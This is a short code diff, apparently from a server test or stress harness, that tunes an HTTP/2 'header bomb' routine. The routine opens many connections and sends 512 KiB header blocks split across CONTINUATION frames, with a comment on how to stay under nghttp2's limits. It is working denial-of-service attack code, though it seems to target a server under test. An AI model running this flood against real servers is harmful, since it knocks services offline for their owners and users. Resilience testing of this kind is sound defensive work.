@@ -531,7 +531,7 @@ def _literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
 
 def _header_bomb(server: Server):
     block_size = 512 * 1024
-    frame_size = 16 * 1024
+    frame_size = 64 * 1024
 
     def attack(stop, report):
         for _ in range(1000):
@@ -544,6 +544,15 @@ def _header_bomb(server: Server):
                 continue
             report["connections"] += 1
             sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
+            # The server's SETTINGS (64 KiB frames) arrive first; acknowledging them lets
+            # a 512 KiB block go as HEADERS and 7 CONTINUATIONs (nghttp2 refuses more).
+            sock.settimeout(5)
+            try:
+                sock.recv(65536)
+            except OSError:
+                pass
+            sock.sendall(frame(0x4, 0x1, 0, b""))
+            time.sleep(0.05)
             sock.settimeout(0.001)
             sid = 1
             head = (_literal(b":method", b"POST") + _literal(b":scheme", b"https")
